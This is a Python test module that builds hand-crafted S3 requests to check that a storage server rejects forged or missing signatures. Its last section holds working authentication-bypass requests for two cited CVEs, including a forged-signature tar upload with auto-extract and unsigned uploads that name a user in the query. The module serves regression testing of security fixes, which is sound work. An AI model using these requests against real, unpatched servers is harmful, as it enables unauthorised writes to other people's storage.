"""S3 requests built by hand, so that they can be wrong in exactly one way."""

from __future__ import annotations

import base64
import datetime
import http.client
import io
import re
import tarfile
import zlib
from urllib.parse import quote, urlsplit

from minio.credentials import Credentials
from minio.signer import sign_v4_s3

UNSIGNED_TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
REGION = "us-east-1"


def send(
    method: str, address: str, target: str, headers: dict[str, str], body: bytes = b""
) -> tuple[int, dict[str, str], str]:
    """Status, headers (lower case) and text of the response."""
    connection = http.client.HTTPConnection(address, timeout=60)
    try:
        connection.request(method, target, body=body or None, headers=headers)
        answer = connection.getresponse()
        content = answer.read().decode("utf-8", "replace")
        return answer.status, {name.lower(): value for name, value in answer.getheaders()}, content
    finally:
        connection.close()


def sign(
    method: str,
    address: str,
    target: str,
    *,
    user: str,
    password: str,
    headers: dict[str, str] | None = None,
    payload: str = "UNSIGNED-PAYLOAD",
) -> dict[str, str]:
    """Headers with a valid signature of this user."""
    now = datetime.datetime.now(datetime.UTC)
    unsigned = {
        "Host": address,
        "x-amz-content-sha256": payload,
        "x-amz-date": now.strftime("%Y%m%dT%H%M%SZ"),
        **(headers or {}),
    }
    signed: dict[str, str] = sign_v4_s3(
        method=method,
        url=urlsplit(f"http://{address}{target}"),
        region=REGION,
        headers=dict(unsigned),
        credentials=Credentials(user, password),
        content_sha256=payload,
        date=now,
    )
    return signed


def forge(signed: dict[str, str]) -> dict[str, str]:
    """The same headers with an invalid signature."""
    made_up = re.sub(r"Signature=[0-9a-f]{64}", f"Signature={'0' * 64}", signed["Authorization"])
    assert made_up != signed["Authorization"]
    return {**signed, "Authorization": made_up}


def with_trailer(content: bytes) -> tuple[dict[str, str], bytes]:
    """Headers and body of a chunked upload with a trailing checksum, neither of them signed."""
    checksum = base64.b64encode(zlib.crc32(content).to_bytes(4, "big")).decode()
    body = f"{len(content):x}\r\n".encode() + content + b"\r\n0\r\n"
    body += f"x-amz-checksum-crc32:{checksum}\r\n\r\n".encode()
    headers = {
        "Content-Encoding": "aws-chunked",
        "x-amz-decoded-content-length": str(len(content)),
        "x-amz-trailer": "x-amz-checksum-crc32",
    }
    return headers, body


def archive(name: str, content: bytes) -> bytes:
    """A tar with one file."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        entry = tarfile.TarInfo(name)
        entry.size = len(content)
        tar.addfile(entry, io.BytesIO(content))
    return packed.getvalue()


def credential_in_query(user: str) -> str:
    """A query string that names a user without a signature."""
    day = datetime.datetime.now(datetime.UTC).strftime("%Y%m%d")
    return "X-Amz-Credential=" + quote(f"{user}/{day}/{REGION}/s3/aws4_request", safe="")


# -- the attacks: each returns the status of the write, which must not be 200 -------------------------------


def forged_extract(address: str, bucket: str, user: str) -> int:
    """CVE-2026-40344: a tar to be unpacked, with a forged signature.

    The body is the bare tar: a vulnerable server does not parse the chunks either.
    """
    headers = {"X-Amz-Meta-Snowball-Auto-Extract": "true"}
    target = f"/{bucket}/forged.tar"
    who = {"user": user, "password": "not-the-password"}
    signed = sign("PUT", address, target, **who, headers=headers, payload=UNSIGNED_TRAILER)
    return send("PUT", address, target, forge(signed), archive("forged-extract", b"forged"))[0]


def unsigned_by_query(address: str, bucket: str, user: str) -> int:
    """CVE-2026-41145: an upload without any signature whose query names a user."""
    headers, body = with_trailer(b"forged")
    headers |= {"x-amz-content-sha256": UNSIGNED_TRAILER}
    target = f"/{bucket}/forged-by-query?{credential_in_query(user)}"
    return send("PUT", address, target, headers, body)[0]


def signed_by_one_for_another(address: str, target: str, *, user: str, password: str, other: str) -> int:
    """A valid signature of one user in the header, another user's name in the query."""
    named = f"{target}?{credential_in_query(other)}"
    return send("PUT", address, named, sign("PUT", address, named, user=user, password=password), b"forged")[
        0
    ]
